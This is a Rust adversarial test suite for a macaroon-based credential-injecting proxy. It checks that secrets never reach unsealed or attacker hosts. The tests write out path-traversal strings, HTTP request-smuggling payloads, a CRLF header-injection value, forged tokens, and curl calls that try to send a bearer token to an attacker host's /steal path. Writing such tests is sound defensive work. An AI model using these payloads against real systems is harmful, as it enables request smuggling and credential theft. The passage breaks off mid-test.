//! Adversarial end-to-end tests: a prompt-injected agent holding a token, with a
//! recording sealed upstream and a second "attacker" upstream. Each asserts that no secret
//! reached a host it was not sealed for, that nothing reached an upstream before the
//! decision, that the error is clear, and that the proxy keeps serving.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Duration;

use e2e::upstream::Upstream;
use e2e::{ProxyProcess, Session};

use crate::world::{bearer, curl, HOST, OTHER, SECRET};

struct Arena {
    s: Session,
    sealed: Upstream,
    attacker: Upstream,
    proxy: ProxyProcess,
    token: String,
}

fn arena(extra: &[&str]) -> Arena {
    let s = Session::new();
    s.run("macaroon-proxy", &["keygen"]).ok();
    let token = s
        .run_stdin("macaroon", &["wrap", "api", "--host", HOST], SECRET)
        .ok()
        .out()
        .to_string();
    let sealed = Upstream::start(&[HOST]);
    let attacker = Upstream::start(&[OTHER]);
    let mut flags = vec![
        "--resolve".to_string(),
        format!("{OTHER}={}", attacker.addr),
        "--upstream-ca".to_string(),
        attacker.ca_path.display().to_string(),
    ];
    flags.extend(extra.iter().map(|s| s.to_string()));
    let flags: Vec<&str> = flags.iter().map(String::as_str).collect();
    let proxy = s.start_proxy(&sealed, &[HOST], &flags);
    Arena {
        s,
        sealed,
        attacker,
        proxy,
        token,
    }
}

impl Arena {
    /// The invariants after an attack: the attacker host saw no secret (nothing at all
    /// here), the sealed upstream saw only `sealed_requests` requests, and the proxy still
    /// serves a good request.
    fn assert_held(&self, sealed_requests: usize) {
        assert!(
            self.attacker.seen().is_empty(),
            "the attacker upstream was reached: {:?}",
            self.attacker.seen()
        );
        assert_eq!(
            self.sealed.seen().len(),
            sealed_requests,
            "unexpected requests reached the upstream"
        );
        let audit = std::fs::read_to_string(&self.proxy.audit_path).unwrap_or_default();
        assert!(
            !audit.contains(SECRET) && !audit.contains(&self.token[..60]),
            "secret or token in the audit log"
        );
        let ok = curl(&[&format!("{}/v1/ok", self.proxy.url()), "-H", &bearer(&self.token)]);
        assert_eq!(ok.status, 200, "the proxy stopped serving");
        assert_eq!(self.sealed.seen().len(), sealed_requests + 1);
    }
}

/// Sends raw bytes to the proxy and returns what it answered (until it closes or 5 s).
fn raw(p: &ProxyProcess, request: &[u8]) -> String {
    let mut tcp = TcpStream::connect(p.addr).expect("connect");
    tcp.set_read_timeout(Some(Duration::from_secs(5)))
        .expect("timeout");
    tcp.write_all(request).expect("write");
    let mut out = Vec::new();
    let mut buf = [0u8; 4096];
    loop {
        match tcp.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => {
                out.extend_from_slice(&buf[..n]);
                // One response is enough: stop once headers and a short body are in.
                if out.windows(4).any(|w| w == b"\r\n\r\n")
                    && out.len() > 64
                    && !out.starts_with(b"HTTP/1.1 200")
                {
                    break;
                }
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

fn status(response: &str) -> u16 {
    response
        .split(' ')
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0)
}

#[test]
fn host_header_spoofing_in_reverse_mode_changes_nothing() {
    let a = arena(&[]);
    let r = curl(&[
        &format!("{}/v1/charges", a.proxy.url()),
        "-H",
        &bearer(&a.token),
        "-H",
        &format!("Host: {OTHER}"),
    ]);
    assert_eq!(r.status, 200);
    assert_eq!(
        a.sealed.seen()[0].authority,
        HOST,
        "reverse mode always goes to the first sealed host"
    );
    a.assert_held(1);
}

#[test]
fn absolute_uri_and_host_header_must_agree() {
    let a = arena(&[]);
    let proxy = a.proxy.url();
    for (url, host) in [
        (format!("http://{HOST}/x"), OTHER),
        (format!("http://{OTHER}/x"), HOST),
    ] {
        let r = curl(&[
            "--proxy",
            &proxy,
            &url,
            "-H",
            &bearer(&a.token),
            "-H",
            &format!("Host: {host}"),
        ]);
        assert_eq!(r.status, 403, "{url} with Host {host}");
    }
    a.assert_held(0);
}

#[test]
fn tunnel_to_an_unsealed_host_with_a_spoofed_inner_host_is_refused() {
    let a = arena(&[]);
    let ca = a.s.home().join("ca.pem").display().to_string();
    let proxy = a.proxy.url();
    // CONNECT to the attacker, then claim the sealed host inside: the tunnel's authority wins.
    let r = curl(&[
        "--proxy",
        &proxy,
        "--cacert",
        &ca,
        &format!("https://{OTHER}/steal"),
        "-H",
        &bearer(&a.token),
        "-H",
        &format!("Host: {HOST}"),
        "--http1.1",
    ]);
    assert_eq!(r.status, 403);
    assert!(String::from_utf8_lossy(&r.body).contains("authority_mismatch"));
    // And without the spoofed Host: the attacker is simply not a sealed host.
    let r = curl(&[
        "--proxy",
        &proxy,
        "--cacert",
        &ca,
        &format!("https://{OTHER}/steal"),
        "-H",
        &bearer(&a.token),
    ]);
    assert_eq!(r.status, 403);
    a.assert_held(0);
}

#[test]
fn every_path_trick_is_refused_before_the_upstream() {
    let a = arena(&[]);
    for path in [
        "/v1/charges/../admin",
        "/v1/charges/%2e%2e/admin",
        "/v1/charges/%2E%2e/admin",
        "/v1/charges%2f..%2fadmin",
        "/v1/charges%5c..%5cadmin",
        "/v1/charges/%252e%252e/admin",
        "//v1/charges",
        "/v1/charges/..;/admin",
        "/v1/charges%00.json",
        "/v1/%c0%ae%c0%ae/admin",
        "/v1/./charges",
    ] {
        let req = format!(
            "GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {}\r\nConnection: close\r\n\r\n",
            a.token
        );
        let resp = raw(&a.proxy, req.as_bytes());
        assert_eq!(status(&resp), 400, "{path}: {resp}");
        assert!(resp.contains("bad_path"), "{path}: {resp}");
    }
    a.assert_held(0);
}

#[test]
fn smuggling_shapes_never_reach_the_upstream_as_a_second_request() {
    let a = arena(&[]);
    let t = &a.token;
    let shapes = [
        // CL and TE together, with a smuggled request in the body.
        format!("POST /v1/x HTTP/1.1\r\nHost: h\r\nAuthorization: Bearer {t}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: h\r\n\r\n"),
        // Two different Content-Lengths.
        format!("POST /v1/x HTTP/1.1\r\nHost: h\r\nAuthorization: Bearer {t}\r\nContent-Length: 5\r\nContent-Length: 40\r\n\r\nhelloGET /admin HTTP/1.1\r\nHost: h\r\n\r\n"),
        // Obsolete line folding.
        format!("GET /v1/x HTTP/1.1\r\nHost: h\r\nAuthorization: Bearer {t}\r\nX-Folded: a\r\n b\r\n\r\n"),
        // A space before the colon.
        format!("GET /v1/x HTTP/1.1\r\nHost: h\r\nAuthorization : Bearer {t}\r\n\r\n"),
    ];
    for shape in &shapes {
        let resp = raw(&a.proxy, shape.as_bytes());
        assert!(
            status(&resp) == 400 || status(&resp) == 200 || status(&resp) == 401,
            "{resp}"
        );
    }
    // Whatever was accepted, no request for /admin ever reached the upstream.
    assert!(
        a.sealed.seen().iter().all(|s| !s.target.contains("admin")),
        "{:?}",
        a.sealed.seen()
    );
    let before = a.sealed.seen().len();
    assert!(
        before <= 1,
        "at most the CL+TE request (read as chunked) may pass: {:?}",
        a.sealed.seen()
    );
    a.assert_held(before);
}

#[test]
fn oversized_heads_are_refused_and_the_proxy_keeps_serving() {
    let a = arena(&[]);
    let big_header = format!(
        "GET /v1/x HTTP/1.1\r\nHost: h\r\nX-Big: {}\r\n\r\n",
        "a".repeat(100 * 1024)
    );
    let resp = raw(&a.proxy, big_header.as_bytes());
    assert!(
        status(&resp) == 431 || status(&resp) == 400 || resp.is_empty(),
        "{resp}"
    );
    let big_uri = format!("GET /{} HTTP/1.1\r\nHost: h\r\n\r\n", "a".repeat(100 * 1024));
    let resp = raw(&a.proxy, big_uri.as_bytes());
    assert!(
        status(&resp) == 414 || status(&resp) == 431 || status(&resp) == 400 || resp.is_empty(),
        "{resp}"
    );
    let garbage = raw(&a.proxy, b"\x16\x03\x01\x02\x00garbage-not-http\r\n\r\n");
    assert!(status(&garbage) == 400 || garbage.is_empty(), "{garbage}");
    a.assert_held(0);
}

#[test]
fn many_and_huge_caveats_are_decided_without_harm() {
    let a = arena(&[]);
    let mut args: Vec<String> = vec!["attenuate".into(), "api".into()];
    for i in 0..300 {
        args.push("--caveat".into());
        args.push(format!("path prefix /v1/{i} /v1/x"));
    }
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let many = a.s.run("macaroon", &args).ok().out().to_string();
    let r = curl(&[&format!("{}/v1/x/1", a.proxy.url()), "-H", &bearer(&many)]);
    assert_eq!(r.status, 200, "300 satisfied caveats still verify");
    let huge_path = format!("/v1/{}", "a".repeat(30_000));
    let huge =
        a.s.run("macaroon", &["attenuate", "api", "--path", &huge_path])
            .ok()
            .out()
            .to_string();
    let r = curl(&[&format!("{}/v1/x", a.proxy.url()), "-H", &bearer(&huge)]);
    assert_eq!(r.status, 403, "a huge caveat is just a caveat");
    a.assert_held(1);
}

/// Rewrites the token's V2JSON caveat list and returns the re-encoded token.
fn tamper(token: &str, f: impl Fn(&mut Vec<serde_json::Value>)) -> String {
    let json = {
        let s = Session::new();
        // Convert through the CLI: attenuate with a harmless caveat in V2JSON.
        s.run("macaroon-proxy", &["keygen"]).ok();
        s.run(
            "macaroon",
            &[
                "attenuate",
                token,
                "--caveat",
                "host = api.example.test",
                "--format",
                "v2json",
            ],
        )
        .ok()
        .out()
        .to_string()
    };
    let mut v: serde_json::Value = serde_json::from_str(&json).expect("json");
    let mut cs = v["c"].as_array().expect("caveats").clone();
    f(&mut cs);
    v["c"] = serde_json::Value::Array(cs);
    v.to_string()
}

#[test]
fn stripped_reordered_duplicated_or_altered_caveats_break_the_signature() {
    let a = arena(&[]);
    let narrow =
        a.s.run(
            "macaroon",
            &["attenuate", "api", "--method", "GET", "--path", "/v1/charges"],
        )
        .ok()
        .out()
        .to_string();
    let url = format!("{}/v1/refunds", a.proxy.url());
    let attacks: Vec<(&str, String)> = vec![
        (
            "stripped",
            tamper(&narrow, |c| {
                c.retain(|x| !x["i"].as_str().unwrap_or("").starts_with("path"))
            }),
        ),
        ("reordered", tamper(&narrow, |c| c.swap(0, 1))),
        (
            "duplicated",
            tamper(&narrow, |c| {
                let first = c[0].clone();
                c.push(first)
            }),
        ),
        (
            "altered",
            tamper(&narrow, |c| c[1] = serde_json::json!({"i": "path prefix /v1"})),
        ),
    ];
    for (what, token) in attacks {
        let r = curl(&[&url, "-X", "POST", "-H", &bearer(&token)]);
        assert_eq!(r.status, 401, "{what} caveats must not verify");
        assert!(
            String::from_utf8_lossy(&r.body).contains("signature"),
            "{what}: {}",
            String::from_utf8_lossy(&r.body)
        );
    }
    a.assert_held(0);
}

#[test]
fn a_token_sealed_to_another_proxy_is_refused() {
    let a = arena(&[]);
    let other = Session::new();
    other.run("macaroon-proxy", &["keygen"]).ok();
    let foreign = other
        .run_stdin("macaroon", &["wrap", "x", "--host", HOST], "other-secret")
        .ok()
        .out()
        .to_string();
    let r = curl(&[&format!("{}/v1/x", a.proxy.url()), "-H", &bearer(&foreign)]);
    assert_eq!(r.status, 401);
    assert!(
        String::from_utf8_lossy(&r.body).contains("does not hold"),
        "{}",
        String::from_utf8_lossy(&r.body)
    );
    a.assert_held(0);
}

#[test]
fn a_broken_upstream_is_a_502_and_a_slow_one_a_504() {
    let a = arena(&["--upstream-timeout", "1s"]);
    let r = curl(&[&format!("{}/reset", a.proxy.url()), "-H", &bearer(&a.token)]);
    assert_eq!(r.status, 502, "{}", String::from_utf8_lossy(&r.body));
    assert!(!String::from_utf8_lossy(&r.body).contains(SECRET));
    let r = curl(&[&format!("{}/slow", a.proxy.url()), "-H", &bearer(&a.token)]);
    assert_eq!(r.status, 504, "{}", String::from_utf8_lossy(&r.body));
    // The message names the timeout the operator set, and the flag that changes it.
    let body: serde_json::Value = serde_json::from_slice(&r.body).expect("json");
    let message = body["error"]["message"].as_str().expect("message");
    assert!(
        message.contains("within 1s") && message.contains("--upstream-timeout"),
        "{message}"
    );
    a.assert_held(2);
}

#[test]
fn a_redirect_to_the_attacker_is_returned_not_followed() {
    let a = arena(&[]);
    let r = curl(&[&format!("{}/redirect", a.proxy.url()), "-H", &bearer(&a.token)]);
    assert_eq!(r.status, 302);
    assert!(r.headers.contains("location: https://attacker.example/steal"));
    a.assert_held(1);
}

#[test]
fn secrets_and_tokens_never_appear_in_responses_or_logs() {
    let a = arena(&[]);
    let url = format!("{}/v1/x", a.proxy.url());
    let responses = [
        curl(&[&url, "-H", &bearer(&a.token)]),
        curl(&[&url, "-H", &bearer(&a.token), "-X", "BREW"]),
        curl(&[&url, "-H", &bearer(&format!("{}x", a.token))]),
        curl(&[&format!("{}/reset", a.proxy.url()), "-H", &bearer(&a.token)]),
    ];
    for r in &responses {
        let text = format!("{}{}", r.headers, String::from_utf8_lossy(&r.body));
        assert!(!text.contains(SECRET), "secret in a response: {text}");
        assert!(!text.contains(&a.token[20..80]), "token in a response: {text}");
    }
    let stderr = a.proxy.stderr();
    assert!(
        !stderr.contains(SECRET) && !stderr.contains(&a.token[20..80]),
        "{stderr}"
    );
}

#[test]
fn an_upstream_with_an_untrusted_or_wrong_name_certificate_gets_no_secret() {
    let s = Session::new();
    s.run("macaroon-proxy", &["keygen"]).ok();
    let token = s
        .run_stdin("macaroon", &["wrap", "api", "--host", HOST], SECRET)
        .ok()
        .out()
        .to_string();
    // A certificate for HOST from a CA the proxy does not trust.
    let impostor = Upstream::start(&[HOST]);
    let decoy = Upstream::start(&[OTHER]);
    let resolve = format!("{HOST}={}", impostor.addr);
    let proxy = s.start_proxy(&decoy, &[], &["--resolve", &resolve]);
    let r = curl(&[&format!("{}/v1/x", proxy.url()), "-H", &bearer(&token)]);
    assert_eq!(r.status, 502, "{}", String::from_utf8_lossy(&r.body));
    assert!(
        impostor.seen().is_empty(),
        "no request may reach an unverified upstream"
    );
    // A trusted CA, but a certificate for another name.
    let wrong_name = Upstream::start(&[OTHER]);
    let resolve = format!("{HOST}={}", wrong_name.addr);
    let proxy = s.start_proxy(&wrong_name, &[], &["--resolve", &resolve]);
    let r = curl(&[&format!("{}/v1/x", proxy.url()), "-H", &bearer(&token)]);
    assert_eq!(r.status, 502);
    assert!(wrong_name.seen().is_empty());
}

#[test]
fn every_request_on_a_kept_alive_connection_is_decided_on_its_own() {
    let a = arena(&[]);
    let url = format!("{}/v1/x", a.proxy.url());
    let auth = bearer(&a.token);
    let out = std::process::Command::new("curl")
        .args([
            "-sS",
            "-o",
            "/dev/null",
            "-w",
            "%{http_code} %{num_connects}\n",
            &url,
            "-H",
            &auth,
            "--next",
        ])
        .args([
            "-sS",
            "-o",
            "/dev/null",
            "-w",
            "%{http_code} %{num_connects}\n",
            &url,
        ])
        .output()
        .expect("curl");
    assert_eq!(String::from_utf8_lossy(&out.stdout), "200 1\n401 0\n");
    a.assert_held(1);
}

#[test]
fn every_401_carries_the_bearer_challenge() {
    let a = arena(&[]);
    let url = format!("{}/v1/x", a.proxy.url());
    let mut forged: Vec<char> = a.token.chars().collect();
    let n = forged.len() - 2;
    forged[n] = if forged[n] == 'A' { 'B' } else { 'A' };
    let forged: String = forged.into_iter().collect();
    for r in [
        curl(&[&url]),
        curl(&[&url, "-H", &bearer(&forged)]),
        curl(&[
            &url,
            "-H",
            &bearer(&a.token),
            "-H",
            "Macaroon-Discharge: not-a-token",
        ]),
    ] {
        assert_eq!(r.status, 401);
        assert!(
            r.headers.contains("www-authenticate: Bearer realm=\"macaroon\""),
            "{}",
            r.headers
        );
    }
    a.assert_held(0);
}

/// Invariant 6 at the proxy: the same token spelled with bytes after its signature or with
/// non-zero base64 trailing bits is no token (401), and nothing reaches the upstream.
#[test]
fn another_spelling_of_a_valid_token_is_refused_before_the_upstream() {
    let a = arena(&[]);
    let mut spellings = vec![
        e2e::spelling::with_bytes_after_signature(&a.token, b"\0"),
        e2e::spelling::with_bytes_after_signature(&a.token, b"\x02\x04evil"),
    ];
    // A token with unused bits in its last character: this one, or a narrowed copy.
    let narrowed = ["GET", "POST", "DELETE"].iter().map(|m| {
        a.s.run("macaroon", &["attenuate", "api", "--method", m])
            .ok()
            .out()
            .to_string()
    });
    let bits = std::iter::once(a.token.clone())
        .chain(narrowed)
        .find_map(|t| e2e::spelling::with_trailing_bits(&t))
        .expect("a token length with unused bits");
    spellings.push(bits);
    let url = format!("{}/v1/charges", a.proxy.url());
    for text in &spellings {
        for header in [bearer(text), format!("x-api-key: {text}")] {
            let r = curl(&[&url, "-H", &header]);
            assert_eq!(r.status, 401, "{}", String::from_utf8_lossy(&r.body));
            assert!(
                r.headers
                    .to_ascii_lowercase()
                    .contains("www-authenticate: bearer"),
                "{}",
                r.headers
            );
        }
        let r = curl(&[&format!("{url}?key={text}")]);
        assert_eq!(r.status, 401, "{}", String::from_utf8_lossy(&r.body));
        // Beside the valid token, a malformed copy is no copy to strip: it would reach the
        // upstream holding the token's bytes, so the request is refused.
        let r = curl(&[&url, "-H", &bearer(&a.token), "-H", &format!("x-api-key: {text}")]);
        assert_eq!(r.status, 401, "{}", String::from_utf8_lossy(&r.body));
        // The same inside a tunnel authenticated on its CONNECT.
        let ca = a.s.home().join("ca.pem").display().to_string();
        let proxy = format!("http://x:{}@{}", a.token, a.proxy.addr);
        let r = curl(&[
            "--proxy",
            &proxy,
            "--cacert",
            &ca,
            &format!("https://{HOST}/v1/charges"),
            "-H",
            &format!("x-api-key: {text}"),
        ]);
        assert_eq!(r.status, 401, "{}", String::from_utf8_lossy(&r.body));
    }
    a.assert_held(0);
}

/// Seals `payload` to the proxy key in `home` as a second wrapper (or anyone holding the
/// public key) could, and mints the root token for it.
fn forge_token(home: &std::path::Path, root: [u8; 32], payload: &serde_json::Value) -> String {
    use crypto_box::aead::OsRng;
    let text = std::fs::read_to_string(home.join("proxy.pub")).expect("proxy.pub");
    let public = caveat::PublicKey::from_base64(&text, "proxy.pub").expect("public key");
    let sealed = crypto_box::PublicKey::from(*public.as_bytes())
        .seal(&mut OsRng, payload.to_string().as_bytes())
        .expect("seal");
    let mut id = caveat::SEALED_PREFIX.to_vec();
    id.extend_from_slice(&public.key_id().0);
    id.extend_from_slice(&sealed);
    caveat::Token::create(None, &caveat::RootKey::from_bytes(root), &id).encode()
}

/// A sealed `header:NAME` that is no valid or usable header name used to fall back to
/// `Authorization`. The payload is malformed now: 401 invalid_token, nothing injected.
#[test]
fn sealed_invalid_header_name_is_refused_not_moved_to_authorization() {
    let a = arena(&[]);
    let root = [7u8; 32];
    let payload = |name: &str| {
        serde_json::json!({
            "kid": "00112233445566778899aabbccddeeff",
            "root": "BwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwc=",
            "secret": SECRET, "inject": {"kind": "header", "name": name},
            "hosts": [HOST], "iat": 1_700_000_000u64, "exp": null,
        })
    };
    let url = format!("{}/v1/charges", a.proxy.url());
    // The forging is right: a valid name, signed by the home's issuer, goes through, into
    // exactly that header. (The names below are refused before any signature is checked.)
    let issuer = std::fs::read_to_string(a.s.home().join("issuer.key")).expect("issuer.key");
    let issuer = caveat::IssuerKey::from_base64(&issuer, "issuer.key").expect("issuer key");
    let mut signed = payload("x-api-key");
    issuer.sign_json(&mut signed);
    let good = forge_token(a.s.home(), root, &signed);
    let r = curl(&[&url, "-H", &bearer(&good)]);
    assert_eq!(r.status, 200, "{}", String::from_utf8_lossy(&r.body));
    let seen = a.sealed.seen();
    assert_eq!(seen[0].header("x-api-key"), Some(SECRET));
    assert_eq!(seen[0].header("authorization"), None);
    for name in [
        "bad name",
        "x\r\nx-evil: 1",
        "",
        "host",
        "Transfer-Encoding",
        "connection",
    ] {
        let forged = forge_token(a.s.home(), root, &payload(name));
        let r = curl(&[&url, "-H", &bearer(&forged)]);
        let body = String::from_utf8_lossy(&r.body);
        assert_eq!(r.status, 401, "{name:?}: {body}");
        assert!(body.contains("invalid_token"), "{name:?}: {body}");
        assert!(body.contains("injection rule is refused"), "{name:?}: {body}");
        assert!(!body.contains(SECRET), "{name:?}: {body}");
    }
    a.assert_held(1);
}

/// Sends `body` with `content_type` (and any `extra` curl arguments) as a POST to
/// `/v1/payment_intents` with `token`; returns status and error code.
fn post(a: &Arena, token: &str, content_type: &str, body: &[u8], extra: &[&str]) -> (u16, String) {
    let dir = tempfile::tempdir().expect("tmp");
    let file = dir.path().join("body");
    std::fs::write(&file, body).expect("body");
    let data = format!("@{}", file.display());
    let ct = format!("Content-Type: {content_type}");
    let mut args = vec![
        format!("{}/v1/payment_intents", a.proxy.url()),
        "-H".into(),
        bearer(token),
        "-H".into(),
        ct,
        "--data-binary".into(),
        data,
    ];
    args.extend(extra.iter().map(|s| s.to_string()));
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let r = curl(&args);
    let v: serde_json::Value = serde_json::from_slice(&r.body).unwrap_or_default();
    (r.status, v["error"]["code"].as_str().unwrap_or("").to_string())
}

/// Every ambiguous body DESIGN lists is refused before anything reaches the upstream,
/// and a body within the bounds goes through byte for byte.
#[test]
fn ambiguous_or_out_of_bounds_bodies_never_reach_the_upstream() {
    let a = arena(&["--max-body", "4096"]);
    let narrow = |flags: &[&str]| {
        let mut args = vec!["attenuate", "api"];
        args.extend_from_slice(flags);
        a.s.run("macaroon", &args).ok().out().to_string()
    };
    let form = narrow(&["--form", "amount <= 5000", "--form", "currency = usd"]);
    let json = narrow(&["--json", "/model in gpt-4o-mini", "--json", "/max_tokens <= 100"]);
    let get_only = narrow(&["--method", "GET", "--form", "amount <= 5000"]);
    let formtype = "application/x-www-form-urlencoded";
    let deep = format!("{}1{}", "[".repeat(70), "]".repeat(70));
    let deep_json = format!("{{\"model\":\"gpt-4o-mini\",\"max_tokens\":1,\"x\":{deep}}}");
    let big = format!("amount=1&currency=usd&pad={}", "x".repeat(5000));
    // What, token, content type, body, extra curl arguments, expected status and code.
    type Case<'a> = (&'a str, &'a str, &'a str, Vec<u8>, Vec<&'a str>, u16, &'a str);
    let cases: Vec<Case> = vec![
        (
            "over the bound",
            &form,
            formtype,
            b"amount=5001&currency=usd".to_vec(),
            vec![],
            403,
            "caveat_failed",
        ),
        (
            "duplicate field",
            &form,
            formtype,
            b"amount=1&amount=9999&currency=usd".to_vec(),
            vec![],
            403,
            "caveat_failed",
        ),
        (
            "field missing",
            &form,
            formtype,
            b"currency=usd".to_vec(),
            vec![],
            403,
            "caveat_failed",
        ),
        (
            "not a number",
            &form,
            formtype,
            b"amount=0x10&currency=usd".to_vec(),
            vec![],
            403,
            "caveat_failed",
        ),
        (
            "leading plus",
            &form,
            formtype,
            b"amount=%2B10&currency=usd".to_vec(),
            vec![],
            403,
            "caveat_failed",
        ),
        (
            "form caveat, JSON body",
            &form,
            "application/json",
            br#"{"amount":1,"currency":"usd"}"#.to_vec(),
            vec![],
            403,
            "caveat_failed",
        ),
        (
            "field in the query too",
            &form,
            formtype,
            b"amount=1&currency=usd".to_vec(),
            vec!["--url-query", "amount=9999"],
            403,
            "caveat_failed",
        ),
        (
            "gzip",
            &form,
            formtype,
            b"amount=1&currency=usd".to_vec(),
            vec!["-H", "Content-Encoding: gzip"],
            403,
            "caveat_failed",
        ),
        (
            "over --max-body",
            &form,
            formtype,
            big.into_bytes(),
            vec![],
            413,
            "body_too_large",
        ),
        (
            "refused model",
            &json,
            "application/json",
            br#"{"model":"gpt-4o","max_tokens":10}"#.to_vec(),
            vec![],
            403,
            "caveat_failed",
        ),
        (
            "duplicate key, nested",
            &json,
            "application/json",
            br#"{"model":"gpt-4o-mini","max_tokens":1,"m":{"a":1,"a":2}}"#.to_vec(),
            vec![],
            403,
            "caveat_failed",
        ),
        (
            "duplicate key, top",
            &json,
            "application/json",
            br#"{"model":"gpt-4o-mini","model":"gpt-4o","max_tokens":1}"#.to_vec(),
            vec![],
            403,
            "caveat_failed",
        ),
        (
            "number as a string",
            &json,
            "application/json",
            br#"{"model":"gpt-4o-mini","max_tokens":"1"}"#.to_vec(),
            vec![],
            403,
            "caveat_failed",
        ),
        (
            "1e400",
            &json,
            "application/json",
            br#"{"model":"gpt-4o-mini","max_tokens":1e400}"#.to_vec(),
            vec![],
            403,
            "caveat_failed",
        ),
        (
            "too deep",
            &json,
            "application/json",
            deep_json.into_bytes(),
            vec![],
            403,
            "caveat_failed",
        ),
        (
            "invalid UTF-8",
            &json,
            "application/json",
            b"{\"model\":\"gpt-4o-mini\xff\",\"max_tokens\":1}".to_vec(),
            vec![],
            403,
            "caveat_failed",
        ),
        (
            "trailing garbage",
            &json,
            "application/json",
            br#"{"model":"gpt-4o-mini","max_tokens":1} {}"#.to_vec(),
            vec![],
            403,
            "caveat_failed",
        ),
        (
            "JSON caveat, form body",
            &json,
            formtype,
            b"model=gpt-4o-mini&max_tokens=1".to_vec(),
            vec![],
            403,
            "caveat_failed",
        ),
        (
            "wrong method: refused before the body",
            &get_only,
            formtype,
            b"amount=1".to_vec(),
            vec![],
            403,
            "caveat_failed",
        ),
    ];
    for (what, token, ct, body, extra, status, code) in &cases {
        let got = post(&a, token, ct, body, extra);
        assert_eq!(got, (*status, code.to_string()), "{what}");
    }
    assert!(a.sealed.seen().is_empty(), "a refused body reached the upstream");
    // Within the bounds: the upstream gets exactly the bytes that were checked, with their
    // length (a chunked upload is forwarded with Content-Length, never re-serialized).
    let ok = b"amount=5000.00&currency=usd&metadata[order]=a%20b".to_vec();
    assert_eq!(
        post(&a, &form, formtype, &ok, &["-H", "Transfer-Encoding: chunked"]),
        (200, String::new())
    );
    let ok_json = br#"{ "model" : "gpt-4o-mini", "max_tokens": 5e1 }"#.to_vec();
    assert_eq!(
        post(&a, &json, "application/json; charset=utf-8", &ok_json, &[]),
        (200, String::new())
    );
    let seen = a.sealed.seen();
    assert_eq!(seen[0].body, ok);
    assert_eq!(
        seen[0].header("content-length"),
        Some(ok.len().to_string().as_str())
    );
    assert_eq!(seen[0].header("transfer-encoding"), None);
    assert_eq!(seen[1].body, ok_json);
    a.assert_held(2);
}

/// `Expect: 100-continue` is answered only once the headers are allowed: a refused request
/// gets its refusal instead, and the client never sends the body.
#[test]
fn expect_100_continue_is_answered_only_after_the_headers_are_allowed() {
    let a = arena(&[]);
    let token =
        a.s.run(
            "macaroon",
            &["attenuate", "api", "--method", "PUT", "--form", "amount <= 5000"],
        )
        .ok()
        .out()
        .to_string();
    let send = |method: &str| -> String {
        let mut tcp = TcpStream::connect(a.proxy.addr).expect("connect");
        tcp.set_read_timeout(Some(Duration::from_secs(10)))
            .expect("timeout");
        write!(
            tcp,
            "{method} /v1/payment_intents HTTP/1.1\r\nHost: {HOST}\r\nAuthorization: Bearer {token}\r\n\
             Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 11\r\nExpect: 100-continue\r\n\r\n"
        )
        .expect("head");
        let mut first = [0u8; 12];
        tcp.read_exact(&mut first).expect("status line");
        let head = String::from_utf8_lossy(&first).to_string();
        if head.contains(" 100") {
            tcp.write_all(b"amount=4999").expect("body");
            let mut rest = Vec::new();
            let mut buf = [0u8; 4096];
            while !String::from_utf8_lossy(&rest).contains("HTTP/1.1 2") {
                let n = tcp.read(&mut buf).expect("read");
                if n == 0 {
                    break;
                }
                rest.extend_from_slice(&buf[..n]);
            }
            format!("{head}{}", String::from_utf8_lossy(&rest))
        } else {
            head
        }
    };
    // Refused on its method: 403 straight away, no 100 Continue, no body asked for.
    let refused = send("POST");
    assert!(refused.starts_with("HTTP/1.1 403"), "{refused}");
    // Allowed headers: 100 Continue, then the body is read, checked and forwarded.
    let allowed = send("PUT");
    assert!(
        allowed.starts_with("HTTP/1.1 100") && allowed.contains("HTTP/1.1 200"),
        "{allowed}"
    );
    assert_eq!(a.sealed.seen()[0].body, b"amount=4999");
    a.assert_held(1);
}

/// `CONNECT user:pass@host:443` (credentials where `@` is refused everywhere else) and
/// `CONNECT host:0` are refused with a 400 naming the problem; the password is not logged.
#[test]
fn connect_with_credentials_or_port_zero_is_refused() {
    let a = arena(&[]);
    for (target, code) in [
        (format!("user:hunter2@{HOST}:443"), "bad_connect_target"),
        (format!("{HOST}:0"), "bad_connect_port"),
    ] {
        let r = raw(
            &a.proxy,
            format!("CONNECT {target} HTTP/1.1\r\nHost: {HOST}:443\r\n\r\n").as_bytes(),
        );
        assert_eq!(status(&r), 400, "{target}: {r}");
        assert!(r.contains(code), "{r}");
    }
    let audit = a.proxy.audit();
    for code in ["bad_connect_target", "bad_connect_port"] {
        assert!(
            audit.iter().any(|l| l["method"] == "CONNECT"
                && l["status"] == 400
                && l["event"] == "connect"
                && l["reason"].as_str().unwrap_or_default().starts_with(code)),
            "{audit:?}"
        );
    }
    assert!(!std::fs::read_to_string(&a.proxy.audit_path)
        .unwrap_or_default()
        .contains("hunter2"));
    a.assert_held(0);
}

/// An intercepted tunnel that never carries a request still leaves an audit line: the
/// CONNECT itself (client, host and port, the certificate issued).
#[test]
fn an_intercepted_tunnel_without_requests_is_audited() {
    let a = arena(&[]);
    let mut tcp = TcpStream::connect(a.proxy.addr).expect("connect");
    tcp.set_read_timeout(Some(Duration::from_secs(10)))
        .expect("timeout");
    tcp.write_all(format!("CONNECT {HOST}:8443 HTTP/1.1\r\nHost: {HOST}:8443\r\n\r\n").as_bytes())
        .expect("write");
    let mut head = Vec::new();
    let mut byte = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") {
        assert_eq!(tcp.read(&mut byte).expect("read"), 1, "closed early");
        head.push(byte[0]);
    }
    assert!(
        head.starts_with(b"HTTP/1.1 200"),
        "{}",
        String::from_utf8_lossy(&head)
    );
    let client = tcp.local_addr().expect("addr").to_string();
    drop(tcp);
    let audit = a.proxy.audit();
    let line = audit
        .iter()
        .find(|l| l["event"] == "connect" && l["host"] == format!("{HOST}:8443"))
        .unwrap_or_else(|| panic!("no line for the tunnel: {audit:?}"));
    assert_eq!(line["method"], "CONNECT");
    assert_eq!(line["mode"], "tunnel");
    assert_eq!(line["decision"], "allow");
    assert_eq!(line["client"], client);
    assert!(
